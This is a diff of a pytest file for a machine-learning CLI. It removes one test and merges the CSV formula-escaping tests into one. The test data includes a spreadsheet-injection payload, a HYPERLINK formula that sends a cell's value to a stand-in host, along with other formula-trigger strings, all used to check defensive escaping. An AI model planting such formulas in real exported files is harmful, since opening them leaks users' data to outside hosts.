@@ -223,18 +223,6 @@ def test_bad_files_and_outputs(folder, tmp_path, capsys):
     assert list(tmp_path.iterdir()) == [cut]
 
 
-def test_a_late_error_leaves_the_old_output(folder, tmp_path, capsys, monkeypatch):
-    monkeypatch.setattr("vennforest.commands.predict.ROWS_AT_ONCE", 10)
-    frame = read_csv(folder / "new.csv", dtype=str)
-    frame.loc[125, "âge"] = "old"
-    frame.to_csv(tmp_path / "n.csv", index=False)
-    output = tmp_path / "o.csv"
-    output.write_text("old")
-    command = ("predict", folder / "m.skops", tmp_path / "n.csv", "-o", output)
-    assert "row 126" in refused(capsys, *command)
-    assert output.read_text() == "old" and len(list(tmp_path.iterdir())) == 2
-
-
 def test_models_saved_in_python(tmp_path, capsys):
     rng = np.random.default_rng(0)
     X = pd.DataFrame(rng.normal(size=(120, 3)), columns=["a", "b", "c"])
@@ -276,8 +264,7 @@ def test_a_table_is_read_predicted_and_written_in_parts(folder, tmp_path, monkey
     assert n_read_when_writing == list(range(14))  # the header, and each row group
 
 
-# --- text that spreadsheet programs take for formulas: an apostrophe goes before it in CSV --------
-
+# Spreadsheet programs take some text for formulas: an apostrophe goes before it in CSV.
 FORMULA = '=HYPERLINK("http://x/?"&A1,"y")'
 FORMULAS = [FORMULA, "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "+41 79 1", "-", "-x"]
 NO_FORMULAS = ["-5", "+5.5", "-1e-300", " -5", "", "x=1", "a-b", "'=1", "-inf"]
@@ -288,33 +275,25 @@ def test_an_apostrophe_goes_before_a_formula():
     assert [*map(as_text, NO_FORMULAS)] == NO_FORMULAS
 
 
-@pytest.fixture(scope="module")
-def formulas(tmp_path_factory):
-    folder = tmp_path_factory.mktemp("formulas")
+def test_an_output_of_text_holds_no_formula(tmp_path):
     rng = np.random.default_rng(0)
     x = rng.normal(size=60)
     frame = pd.DataFrame({"x": x, "@id": [FORMULA, "-5", None, "plain"] * 15})
     frame["y"] = np.where(x + rng.normal(size=60) > 0, "=yes", "-no")
-    frame.to_csv(folder / "d.csv", index=False)
-    frame.to_parquet(folder / "d.parquet")
-    command = ["fit", folder / "d.csv", "-t", "y", "--drop", "@id", "-o", folder / "m.skops"]
-    assert run(*command, "--trees", 5, "--jobs", 1) == 0
-    return folder
-
-
-@pytest.mark.parametrize("data", ["d.csv", "d.parquet", "view.parquet"])
-def test_an_output_of_text_holds_no_formula(formulas, tmp_path, data):
-    if data == "view.parquet":  # a third type of text
-        table = pq.read_table(formulas / "d.parquet")
-        at = table.column_names.index("@id")
-        table = table.set_column(at, "@id", table["@id"].cast(pa.string_view()))
-        pq.write_table(table, formulas / data)
-    command = ["predict", formulas / "m.skops", formulas / data, "--id", "@id", "-o"]
-    assert run(*command, tmp_path / "p.csv") == 0
-    escaped = pd.read_csv(tmp_path / "p.csv", dtype=str)
-    assert escaped["'@id"].iloc[:4].fillna("").tolist() == ["'" + FORMULA, "-5", "", "plain"]
-    assert set(escaped["label"]) <= {"'=yes", "'-no"}
-    assert run(*command, tmp_path / "p.parquet") == 0
-    plain = pd.read_parquet(tmp_path / "p.parquet")  # text as it is
-    assert plain["@id"].iloc[0] == FORMULA
-    assert escaped["label"].tolist() == ["'" + label for label in plain["label"]]
+    frame.to_csv(tmp_path / "d.csv", index=False)
+    frame.to_parquet(tmp_path / "d.parquet")
+    table = pq.read_table(tmp_path / "d.parquet")
+    view = table.set_column(1, "@id", table["@id"].cast(pa.string_view()))  # a third type of text
+    pq.write_table(view, tmp_path / "view.parquet")
+    fit = ["fit", tmp_path / "d.csv", "-t", "y", "--drop", "@id", "-o", tmp_path / "m.skops"]
+    assert run(*fit, "--trees", 5, "--jobs", 1) == 0
+    for data in ("d.csv", "d.parquet", "view.parquet"):
+        command = ["predict", tmp_path / "m.skops", tmp_path / data, "--id", "@id", "-o"]
+        assert run(*command, tmp_path / "p.csv") == 0
+        escaped = pd.read_csv(tmp_path / "p.csv", dtype=str)
+        assert escaped["'@id"].iloc[:4].fillna("").tolist() == ["'" + FORMULA, "-5", "", "plain"]
+        assert set(escaped["label"]) <= {"'=yes", "'-no"}
+        assert run(*command, tmp_path / "p.parquet") == 0
+        plain = pd.read_parquet(tmp_path / "p.parquet")  # text as it is
+        assert plain["@id"].iloc[0] == FORMULA
+        assert escaped["label"].tolist() == ["'" + label for label in plain["label"]]
